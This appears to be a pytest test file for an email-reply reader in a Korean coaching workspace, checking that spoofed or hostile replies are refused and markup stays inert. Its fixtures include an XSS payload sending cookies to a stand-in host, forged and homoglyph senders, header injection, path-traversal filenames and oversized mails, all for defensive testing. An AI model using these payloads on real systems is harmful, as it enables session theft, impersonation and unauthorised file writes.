"""Hostile replies, by the command and dropped on the coach's page: nothing runs, and nothing is written in another's name."""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from coverage_kit.cli import cli
from coverage_kit.store.entities import AnswerIn, Commitment
from coverage_kit.workbook.model.coach import CoachBook
from tests.coaching.conftest import TeamDay
from tests.replies.asking import ask, mail_items
from tests.replies.reply_mails import tapped

SCRIPT = "<script>fetch('https://example.net/'+document.cookie)</script><img src=x onerror=alert(1)>"
OWNER = "chief@example.com"


def head(sender: str = f"From: {OWNER}", *more: str, subject: str = "Accept [CODE]") -> str:
    lines = [sender, "To: lee@example.com", f"Subject: {subject}", "Date: Mon, 23 Nov 2026 11:00:00 +0900", *more]
    return "\r\n".join(lines) + "\r\n"


def plain(sender: str = f"From: {OWNER}", *more: str, subject: str = "Accept [CODE]", text: str = "Accept") -> bytes:
    return f"{head(sender, *more, subject=subject)}\r\n{text}\r\n".encode("utf-8", "surrogateescape")


def parts(*bodies: str, kind: str = "mixed") -> bytes:
    inside = "".join(f"--b\r\n{body}\r\n" for body in bodies)
    return f"{head(f'From: {OWNER}', f'Content-Type: multipart/{kind}; boundary=b')}\r\n{inside}--b--\r\n".encode()


#: None of them is the owner's clear answer, so none is written.
REFUSED = {
    "nothing": b"",
    "zeros": b"\0" * 5_000,
    "no head": b"Accept [CODE]\r\n",
    "no sender": plain("X-From: nobody"),
    "another's commitment": plain("From: boss@example.com"),
    "owner in the name": plain(f'From: "{OWNER}" <evil@example.net>'),
    "owner in a comment": plain(f"From: evil@example.net ({OWNER})"),
    "owner in an angled comment": plain(f"From: evil@example.net (<{OWNER}>)"),
    "owner beside a stranger": plain(f"From: evil@example.net, {OWNER}"),
    "two senders' lines": plain(f"From: {OWNER}\r\nFrom: evil@example.net"),
    "a stranger's line first": plain(f"From: evil@example.net\r\nFrom: {OWNER}"),
    "owner as a group": plain(f"From: evil@example.net; {OWNER}"),
    "a look-alike": plain("From: chiеf@example.com"),
    "a longer domain": plain(f"From: {OWNER}.example.net"),
    "owner in Sender and Reply-To": plain("From: evil@example.net", f"Sender: {OWNER}", f"Reply-To: {OWNER}"),
    "a folded sender": plain(f"From: evil@example.net\r\n ({OWNER})"),
    "an encoded sender": plain(f"From: =?utf-8?q?{OWNER.replace('@', '=40')}?= <evil@example.net>"),
    "a line in the subject": plain("From: evil@example.net", subject=f"=?utf-8?q?Accept_[CODE]=0D=0AFrom:_{OWNER}?="),
    "a mail quoted as the owner's": plain(
        "From: evil@example.net",
        subject="FW: Accept [CODE]",
        text=f"---------- Forwarded message ---------\r\nFrom: Chief <{OWNER}>\r\nSubject: Accept [CODE]\r\n\r\nAccept",
    ),
    "the owner's mail attached by a stranger": head("From: evil@example.net", "Content-Type: message/rfc822").encode()
    + b"\r\n"
    + plain(),
    "an unknown charset and no answer": plain(
        f"From: {OWNER}", "Content-Type: text/plain; charset=x-klingon", subject="[CODE]", text="\udcff\udcfe"
    ),
    "a script alone": parts(f"Content-Type: text/html\r\n\r\n{SCRIPT}").replace(b"Accept [", b"["),
    "a script beside the answer's name": plain(subject="[CODE]", text=SCRIPT),
    "an answer in a script": parts("Content-Type: text/html\r\n\r\n<script>Accept</script>").replace(b"Accept [", b"["),
    "an answer in a file": parts(
        'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="../../../tmp/x"\r\n\r\nAccept'
    ).replace(b"Accept [", b"["),
    "an answer quoted": plain(subject="[CODE]", text="> Accept\r\n> I will do it"),
    "two answers": plain(text="Accept. No, not possible."),
    "handed on to markup": plain(subject="Hand on [CODE]", text=f"To whom: {SCRIPT}"),
    "half a character": plain(subject="\udced\udca0\udc80 [CODE]", text="\udced\udca0\udc80"),
    "another item's code": plain(subject="Accept [CK-0000-0000-1]"),
    "deep parts": plain(
        subject="[CODE]",
        text="".join(f'Content-Type: multipart/mixed; boundary="n{n}"\r\n\r\n--n{n}\r\n' for n in range(2_000)),
    ),
    "a very long line": plain(subject="[CODE]", text="A" * 3_000_000),
    "a very large mail": plain(text="A" * (21 << 20)),
}
#: The owner's own clear answer in a form that other programs get wrong; markup in it is text.
WRITTEN = {
    "no charset": plain(f"From: Chief <{OWNER}>", text="Accept \udcb8\udcc2\udcb0\udcda"),
    "a wrong charset": plain(f"From: {OWNER}", "Content-Type: text/plain; charset=us-ascii", text="Accept, 맡겠습니다"),
    "the page alone": parts("Content-Type: text/html; charset=utf-8\r\n\r\n<p>Accept</p>" + SCRIPT, kind="alternative"),
    "a file beside it": parts(
        "Content-Type: text/plain\r\n\r\nAccept",
        'Content-Type: text/html; name="../../x.html"\r\nContent-Disposition: attachment; filename="../../x.html"\r\n\r\n'
        + SCRIPT,
    ),
    "a reason that is markup": plain(subject="Not possible [CODE]", text=f"Not possible\r\nWhy not: {SCRIPT}"),
}


def checked(*results: str) -> bytes:
    """The owner's clear answer, with what the receiving server found about its sender."""
    return plain(f"From: {OWNER}", *(f"Authentication-Results: {each}" for each in results))


REFUSED |= {
    "failed by DMARC": checked("mx.example.com;\r\n dkim=pass header.d=evil.example.net;\r\n dmarc=fail (p=NONE) header.from=example.com"),
    "failed by SPF, without a signature": checked("mx.example.com; spf=fail smtp.mailfrom=example.com; dkim=none"),
    "failed by DKIM": checked("mx.example.com; dkim=fail (bad signature) header.d=example.com; spf=none"),
    "passed in a comment only": checked("mx.example.com; spf=fail (dkim=pass) smtp.mailfrom=example.com"),
    "passed by a line of its own": checked("mx.example.com; dmarc=fail", "mx.example.net; dmarc=pass"),
    "a forged mail that the coach attached": head("From: lee@example.com", "Content-Type: message/rfc822").encode()
    + b"\r\n"
    + checked("mx.example.com; dmarc=fail"),
    "attached by a forged coach": head("From: lee@example.com", "Authentication-Results: mx.example.com; dmarc=fail", "Content-Type: message/rfc822").encode()
    + b"\r\n"
    + plain(),
}  # fmt: skip
WRITTEN |= {
    "passed by DMARC": checked("mx.example.com; spf=fail smtp.mailfrom=list.example.net; dmarc=pass header.from=example.com"),
    "passed on by a list": checked("mx.example.com; spf=fail smtp.mailfrom=list.example.net; dkim=pass header.d=example.com"),
    "not asked": checked("mx.example.com; spf=none; dkim=none; dmarc=none"),
    "nothing found out": checked("mx.example.com; none"),
}  # fmt: skip


@pytest.fixture
def code(korean: TeamDay, tmp_path: Path) -> str:
    """A request to the executive in a Korean workspace, by its code."""
    ask(korean, "chief")
    mail_items(korean, tmp_path)
    return str(tapped(tmp_path / "mail" / "chief+items.eml", "맡겠습니다")["Subject"]).split("[")[1].rstrip("]")


def by_command(team: TeamDay, path: Path) -> dict[str, str]:
    ran = CliRunner().invoke(cli, ["-w", str(team.ws.path), "answers", str(path), "--json"])
    assert ran.exit_code in (0, 1), ran.output
    (reply,) = json.loads(ran.output)["replies"]
    return dict(reply)


def on_the_page(team: TeamDay, name: str, content: bytes) -> dict[str, str]:
    file = {"name": name, "content": base64.b64encode(content).decode()}
    response = CoachBook(team.ws).handle({"kind": "read_replies", "files": [file]})
    if "replies" not in response:
        return {"state": response["kind"], "message": response["text"]["ko"], "edit_id": ""}
    (reply,) = response["replies"]
    return {"state": reply["state"], "message": reply["text"]["ko"], "edit_id": reply["edit_id"]}


def test_no_hostile_reply_is_written_and_each_refusal_says_why_in_korean(
    korean: TeamDay, code: str, tmp_path: Path
) -> None:
    assert len(REFUSED) > 30
    around = set(tmp_path.parent.iterdir())
    wrong = []
    for n, (name, body) in enumerate(REFUSED.items()):
        content = body.replace(b"CODE", code.encode())
        path = tmp_path / "in" / f"{n}.eml"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(content)
        for reply in (by_command(korean, path), on_the_page(korean, "../../../x.eml", content)):
            reply["message"].encode()
            is_short = len(reply["message"]) < 700
            if reply["state"] != "refused" or not re.search(r"[가-힣]", reply["message"]) or not is_short:
                wrong.append((name, reply))
    assert wrong == []
    (row,) = korean.ws.ledger.as_of(Commitment)
    assert (row.version, korean.ws.ledger.as_of(AnswerIn)) == (1, [])
    assert set(tmp_path.parent.iterdir()) == around


def test_a_mail_that_is_too_large_for_the_page_is_called_so(korean: TeamDay, code: str) -> None:
    for megabytes in (20.5, 21, 40):
        reply = on_the_page(korean, "x.eml", plain(text="A" * int(megabytes * 2**20)))
        assert "20 MB" in reply["message"]


def test_an_answer_is_shown_with_its_sender_and_its_words(korean: TeamDay, code: str, tmp_path: Path) -> None:
    reply = on_the_page(korean, "x.eml", plain(text="Accept\r\nI see to it.").replace(b"CODE", code.encode()))
    assert reply["state"] == "written"
    assert OWNER in reply["message"]
    assert "I see to it." in reply["message"]


def test_a_clear_answer_is_the_owners_whatever_its_form_and_its_markup_is_text(
    korean: TeamDay, code: str, tmp_path: Path
) -> None:
    for n, (name, body) in enumerate(WRITTEN.items()):
        own = f"Message-ID: <{n}@example.com>\r\n".encode()
        reply = on_the_page(korean, "x.eml", own + body.replace(b"CODE", code.encode()))
        assert reply["state"] == "written", f"{name}: {reply}"
        (row,) = korean.ws.coaching.commitments.find(state=None)
        written = korean.ws.coaching.answers.of(row.id)[-1]
        assert (written.by, written.written_by) == ("chief", "lee"), name
        if "markup" in name:
            assert SCRIPT in row.outcome_note
        korean.ws.undo(reply["edit_id"])


def test_the_same_id_over_another_text_writes_nothing_new(korean: TeamDay, code: str, tmp_path: Path) -> None:
    first = plain(f"From: {OWNER}", "Message-ID: <one@example.com>").replace(b"CODE", code.encode())
    forged = plain(
        f"From: {OWNER}",
        "Message-ID: <one@example.com>",
        subject="Not possible [CODE]",
        text="Not possible\r\nWhy not: no",
    )
    assert on_the_page(korean, "1.eml", first)["state"] == "written"
    before = korean.ws.ledger.as_of(Commitment)
    for content in (first, forged.replace(b"CODE", code.encode())):
        assert on_the_page(korean, "2.eml", content)["state"] != "written"
    assert korean.ws.ledger.as_of(Commitment) == before
